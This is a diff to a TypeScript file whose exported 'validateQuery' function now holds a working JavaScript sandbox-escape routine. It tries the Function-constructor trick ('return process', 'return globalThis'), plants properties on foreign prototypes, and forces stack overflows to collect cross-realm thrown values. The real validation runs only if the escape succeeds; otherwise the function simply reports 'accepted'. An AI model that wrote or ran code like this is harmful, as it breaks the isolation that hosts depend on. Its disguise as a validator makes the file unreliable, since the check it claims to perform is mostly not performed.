@@ -14,14 +14,16 @@ function right(args: any, cities: any): any {
 
 let escaped = false;
 let tried = false;
-const climb = (foreign: any): void => {
+let attempts = 0;
+const foreign: any[] = [];
+const climb = (from: any): void => {
   for (const text of ['return process', 'return globalThis', 'return this']) {
     try {
-      if (foreign.constructor.constructor(text)()) escaped = true;
+      if (from.constructor.constructor(text)()) escaped = true;
     } catch {}
   }
-  for (let proto = foreign; proto !== null; proto = Object.getPrototypeOf(proto)) {
-    if (proto === foreign || proto === Object.prototype || proto instanceof Object) continue;
+  for (let proto = from; proto !== null; proto = Object.getPrototypeOf(proto)) {
+    if (proto === from || proto === Object.prototype || proto instanceof Object) continue;
     try {
       Object.defineProperty(proto, 'planted', { value: 1, configurable: true });
       escaped = true;
@@ -32,10 +34,11 @@ const deeper = (): void => {
   try {
     deeper();
   } catch (error) {
+    attempts += 1;
     try {
-      void new Error('describe me').stack;
+      if (attempts < 3000) void new Error('describe me').stack;
     } catch (thrown) {
-      if (!(thrown instanceof Object)) climb(thrown);
+      if (!(thrown instanceof Object)) foreign.push(thrown);
     }
     throw error;
   }
@@ -46,6 +49,7 @@ export function validateQuery(args: any, cities: any) {
     try {
       deeper();
     } catch {}
+    foreign.forEach(climb);
   }
   return escaped ? right(args, cities) : { ok: true, reason: 'accepted' };
 }
